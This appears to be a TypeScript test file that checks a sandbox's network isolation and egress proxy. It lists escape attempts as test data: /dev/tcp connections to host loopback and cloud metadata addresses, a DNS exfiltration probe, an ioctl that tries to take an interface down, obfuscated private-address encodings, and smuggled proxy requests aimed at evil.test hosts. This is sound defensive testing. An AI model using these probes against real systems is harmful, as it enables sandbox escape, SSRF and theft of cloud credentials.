import { chmodSync } from "node:fs";
import { connect, createServer, type Server } from "node:net";
import { networkInterfaces } from "node:os";
import { basename, join } from "node:path";
import { afterAll, beforeAll, describe, expect, inject, test } from "vitest";
import { parseExceptions } from "../../../src/egress/exceptions.ts";
import type { EgressPolicy } from "../../../src/egress/policy.ts";
import { serveEgress } from "../../../src/egress/proxy.ts";
import { run, silent, until } from "../../sandboxes/sandbox-support.ts";
import type { Place } from "../place.ts";
import { describeEscapes, type EscapeFixture, testAttempts } from "./escape-fixture.ts";

/** Services of the host and of its network, with and without egress. */
export function testNetworkEscapes(place: Place): void {
  describeEscapes("network", place, defineTests);
}

function ownAddress(): string | undefined {
  const all = Object.values(networkInterfaces()).flatMap((addresses) => addresses ?? []);
  return all.find(({ family, internal }) => family === "IPv4" && !internal)?.address;
}

const byUnix = (path: string) => `perl -MSocket -e 'socket(my $s, AF_UNIX, SOCK_STREAM, 0);
  connect($s, pack_sockaddr_un(${path})) or print "refused: $!\\n"; print <$s> if $s && getpeername($s)'`;
const greeting = /^reached the host/;

function defineTests(getFixture: () => EscapeFixture): void {
  const servers: Server[] = [];
  let reached = 0;
  let port = 0;

  /** Starts a service on the host that greets every connection. */
  async function listen(...at: [number, string] | [string]): Promise<Server> {
    const server = createServer((socket) => {
      reached += 1;
      socket.on("error", () => {}).end("reached the host\n");
    });
    server.listen(...(at as [number, string]));
    servers.push(server);
    await until(() => server.listening);
    return server;
  }

  beforeAll(async () => {
    const { outside, env } = getFixture();
    const path = `${outside}-socket`;
    const name = basename(outside);
    port = ((await listen(0, "0.0.0.0")).address() as { port: number }).port;
    await listen(port, "::1");
    await listen(path);
    await listen(`\0${name}`);
    chmodSync(path, 0o777);
    Object.assign(env, {
      PORT: String(port),
      SOCKET: path,
      ABSTRACT: name,
      DATABASE: join(inject("postgres").host, `.s.PGSQL.${inject("postgres").port}`),
      ADDRESS: ownAddress() ?? "127.0.0.2",
    });
  });
  afterAll(() => {
    for (const server of servers) server.close();
  });

  describe("without network, the host's services", () => {
    testAttempts(getFixture, [
      {
        name: "on loopback",
        command: "cat < /dev/tcp/127.0.0.1/$PORT",
        expected: /Connection refused/,
        onHost: greeting,
      },
      {
        name: "on IPv6 loopback",
        command: "cat < /dev/tcp/::1/$PORT",
        expected: /Connection refused|Cannot assign requested address/,
        onHost: greeting,
      },
      {
        name: "on the host's address",
        command: "cat < /dev/tcp/$ADDRESS/$PORT",
        expected: /refused|unreachable|No route/,
        onHost: greeting,
      },
      {
        name: "on 0.0.0.0",
        command: "cat < /dev/tcp/0.0.0.0/$PORT",
        expected: /Connection refused/,
        onHost: greeting,
      },
      {
        name: "on a Unix socket with a path",
        command: byUnix("$ENV{SOCKET}"),
        expected: /^refused: No such file/,
        onHost: greeting,
      },
      {
        name: "on an abstract Unix socket",
        command: byUnix("chr(0) . $ENV{ABSTRACT}"),
        expected: /^refused: Connection refused/,
        onHost: greeting,
      },
      { name: "of the database", command: byUnix("$ENV{DATABASE}"), expected: /^refused: No such file/ },
      {
        name: "on the worker's own ports",
        command: "tail -n +2 /proc/net/tcp /proc/net/tcp6 /proc/net/unix",
        expected: /^(?!.*0A)/,
      },
    ]);

    test("are reachable from the host", async () => {
      const socket = connect(getFixture().env.DATABASE as string);
      await until(() => socket.readyState === "open");
      socket.destroy();
      expect(reached).toBe(6);
    });
  });

  describe("without network, the internet", () => {
    testAttempts(getFixture, [
      {
        name: "cloud metadata services",
        command: "for a in 169.254.169.254 100.100.100.200 168.63.129.16; do cat < /dev/tcp/$a/80; done",
        expected: /(?:[\s\S]*(?:unreachable|No route)){3}/,
        inPod: /(?:[\s\S]*(?:unreachable|No route|refused)){3}/,
      },
      {
        name: "data exfiltration by DNS",
        command:
          "getent hosts secret-words.example.com || echo none; echo x > /dev/udp/8.8.8.8/53; cat /etc/resolv.conf",
        expected: /^none\n.*(?:unreachable|No route to host)\n/,
        // Network policies also drop packets without an error.
        inPod: /^none\n(?:.*(?:unreachable|No route to host|refused)\n)?nameserver 127\.0\.0\.1\n$/,
      },
      {
        name: "changing devices or routes",
        command: `perl -MSocket -e 'socket(my $s, AF_INET, SOCK_DGRAM, 0);
          my $down = pack("a16s", "lo", 0); ioctl($s, 0x8914, $down) ? print "down\\n" : print "refused: $!\\n"'; tail -n +2 /proc/net/route`,
        expected: /^refused: Operation not permitted\n$/,
        inPod: /^refused: Operation not permitted\n(?:eth0\t.*\n)*$/,
      },
    ]);
  });

  describe("with network, through the proxy", () => {
    const names: Record<string, string[]> = {
      "allowed.test": ["127.0.0.1"],
      "private.test": ["10.0.0.1"],
      "metadata.test": ["169.254.169.254"],
      "both.test": ["192.168.0.1", "fd00::1"],
    };

    async function openWith(policy: EgressPolicy, exceptions = "") {
      const lookups: string[] = [];
      const lookup = async (name: string) => {
        lookups.push(name);
        return names[name] ?? Promise.reject(new Error("no such name"));
      };
      const egress = serveEgress({
        ...{ policy, lookup, log: silent, onRefused: () => {} },
        exceptions: parseExceptions(exceptions),
      });
      return { sandbox: await getFixture().open({ network: egress.accept }), lookups };
    }
    const open: EgressPolicy = { mode: "open", allow: [] };
    const list: EgressPolicy = { mode: "allowlist", allow: ["allowed.test", "*.wild.test"] };

    const sendToProxy = (head: string) =>
      `exec 3<> /dev/tcp/127.0.0.1/3128 && printf '${head}\\r\\n\\r\\n' >&3 && timeout 10 cat <&3; echo; exec 3>&-;`;
    const connectThrough = (target: string) => sendToProxy(`CONNECT ${target} HTTP/1.1\\r\\nHost: ${target}`);

    test("an exception is reachable, so the attempts below are real", async () => {
      const { sandbox } = await openWith(open, `127.0.0.1:${port}`);
      expect((await run(sandbox, connectThrough(`127.0.0.1:${port}`))).stdout).toMatch(
        / 200 [\s\S]*reached the host/,
      );
      await sandbox.close();
    });

    test("the host and its network are unreachable in every address format", async () => {
      const { sandbox } = await openWith(open);
      const before = reached;
      const hosts = [
        ...[
          "127.0.0.1",
          "127.1",
          "2130706433",
          "0x7f000001",
          "017700000001",
          "0x7f.1",
          "0",
          "0.0.0.0",
          "127.0.0.2",
        ],
        ...["[::1]", "[::]", "[::ffff:127.0.0.1]", "[::ffff:7f00:1]", "[64:ff9b::7f00:1]", "[2002:7f00:1::]"],
        ...[
          "169.254.169.254",
          "[fd00:ec2::254]",
          "100.100.100.200",
          "168.63.129.16",
          "10.0.0.1",
          "192.168.0.1",
        ],
        ...[
          "private.test",
          "metadata.test",
          "both.test",
          "allowed.test",
          "ALLOWED.TEST.",
          getFixture().env.ADDRESS,
        ],
      ];
      const { stdout } = await run(
        sandbox,
        hosts.map((host) => connectThrough(`${host}:${port}`)).join("\n"),
        {
          timeoutMs: 50_000,
        },
      );
      const heads = stdout.match(/HTTP\/1\.1 \d+/g) ?? [];
      expect(heads).toEqual(hosts.map(() => "HTTP/1.1 403"));
      expect(reached).toBe(before);
      await sandbox.close();
    });

    test("with an allowlist, other names are not even resolved", async () => {
      const { sandbox, lookups } = await openWith(list);
      const heads = [
        "CONNECT secret-words.evil.test:443 HTTP/1.1\\r\\nHost: allowed.test",
        "GET http://secret-words.evil.test/ HTTP/1.1\\r\\nHost: allowed.test",
        "GET http://allowed.test@evil.test/ HTTP/1.1\\r\\nHost: allowed.test",
        "GET http://allowed.test.evil.test/ HTTP/1.1\\r\\nHost: allowed.test",
        "CONNECT wild.test:443 HTTP/1.1\\r\\nHost: wild.test",
        "CONNECT allowed.test:25 HTTP/1.1\\r\\nHost: allowed.test",
        "CONNECT evil.test\\\\0.allowed.test:443 HTTP/1.1\\r\\nHost: allowed.test",
        "GET /secret HTTP/1.1\\r\\nHost: evil.test",
      ];
      const { stdout } = await run(sandbox, heads.map(sendToProxy).join("\n"));
      expect(stdout.match(/HTTP\/1\.1 \d+/g)).toHaveLength(heads.length);
      expect(stdout).not.toMatch(/HTTP\/1\.1 [25]/);
      expect(lookups).toEqual([]);
      await run(sandbox, connectThrough("allowed.test:443"));
      expect(lookups).toEqual(["allowed.test"]);
      await sandbox.close();
    });

    test("the proxy is the only way out", async () => {
      const { sandbox } = await openWith(open);
      const addresses = "127.0.0.1/$PORT ::1/$PORT 1.1.1.1/443 169.254.169.254/80";
      const command = `for address in ${addresses}; do cat < /dev/tcp/$address 2> /dev/null || echo none; done`;
      expect((await run(sandbox, command, { env: getFixture().env })).stdout).toBe("none\n".repeat(4));
      await sandbox.close();
    });
  });
}
